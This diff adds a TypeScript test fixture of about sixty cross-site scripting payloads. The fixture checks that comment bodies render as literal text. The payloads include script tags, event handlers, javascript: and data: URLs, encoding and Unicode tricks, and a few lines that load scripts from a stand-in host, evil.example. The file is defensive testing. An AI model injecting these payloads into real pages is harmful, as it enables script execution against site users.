@@ -1,0 +1,81 @@
+/**
+ * Comment bodies that would run script, load something or add markup if a comment were ever
+ * rendered as HTML or a link were made from the wrong scheme. Each must show as the text typed.
+ * One line each (the server keeps inner whitespace, but a page normalises it when read back).
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  // Script tags
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<script>document.body.dataset.pwned = "1"</script>',
+  '<scr<script>ipt>alert(2)</scr</script>ipt>',
+  '</textarea><script>alert(3)</script>',
+  '</p></li></ol><script>alert(4)</script>',
+  '<script type="module">import("https://evil.example/m.js")</script>',
+  // Event handlers on elements
+  '<img src=x onerror=alert(5)>',
+  '<img src="x" onerror="javascript:alert(6)">',
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<svg onload=alert(7)>',
+  '<svg><script>alert(8)</script></svg>',
+  '<svg><animate onbegin=alert(9) attributeName=x dur=1s>',
+  '<body onload=alert(10)>',
+  '<iframe src="javascript:alert(11)"></iframe>',
+  '<iframe srcdoc="<script>alert(12)</script>"></iframe>',
+  '<details open ontoggle=alert(13)>',
+  '<video><source onerror="alert(14)"></video>',
+  '<audio src=x onerror=alert(15)>',
+  '<input autofocus onfocus=alert(16)>',
+  '<marquee onstart=alert(17)>scroll</marquee>',
+  '<object data="javascript:alert(18)"></object>',
+  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOSk8L3NjcmlwdD4=">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>',
+  // javascript: and data: URLs
+  'javascript:alert(21)',
+  'JaVaScRiPt:alert(22)',
+  'java\tscript:alert(23)',
+  ' javascript:alert(24)',
+  'data:text/html,<script>alert(25)</script>',
+  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjYpPg==',
+  'vbscript:msgbox(27)',
+  '<a href="javascript:alert(28)">click me</a>',
+  '<a href=" javascript:alert(29)">spaced</a>',
+  '<a href="&#106;avascript:alert(30)">entity scheme</a>',
+  // Attribute breakouts through a link we do make
+  'https://example.nz/"onmouseover="alert(31)',
+  "https://example.nz/'onfocus='alert(32)' autofocus='",
+  'https://example.nz/"><script>alert(33)</script>',
+  'https://example.nz/`onclick=alert(34)`',
+  'http://example.nz/?q=<img src=x onerror=alert(35)>',
+  'https://javascript:alert(36)@example.nz/',
+  // Entity tricks
+  '&lt;script&gt;alert(37)&lt;/script&gt;',
+  '&#60;script&#62;alert(38)&#60;/script&#62;',
+  '&#x3C;img src=x onerror=alert(39)&#x3E;',
+  '\\u003cscript\\u003ealert(40)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(41)%3C%2Fscript%3E',
+  '&amp;lt;b&amp;gt;double encoded&amp;lt;/b&amp;gt;',
+  // Template, style and HTML parser tricks
+  '{{constructor.constructor("alert(42)")()}}',
+  '${alert(43)}',
+  '<style>body{background:url("javascript:alert(44)")}</style>',
+  '<div style="background-image:url(javascript:alert(45))">styled</div>',
+  '<template><img src=x onerror=alert(46)></template>',
+  '<!--<img src="--><img src=x onerror=alert(47)//">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(48)>">',
+  '<base href="javascript:alert(49)//">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(50)">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<form action="javascript:alert(51)"><button>go</button></form>',
+  // Unicode and direction tricks
+  '\u202Egnp.exe\u202C evil.exe looks like an image',
+  'Right-to-left \u202E<script>alert(52)</script>',
+  '＜script＞alert(53)＜/script＞',
+  'zero\u200Bwidth <scr\u200Bipt>alert(54)</scr\u200Bipt>',
+  'Kia ora 🥝 ﷺ 𝕏 <img src=x onerror=alert(55)>',
+  // Markdown-style links and images
+  '[click me](javascript:alert(56))',
+  '![img](javascript:alert(57))',
+  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4=)',
+  '<https://example.nz/auto> and [text](https://example.nz/x "title")',
+];
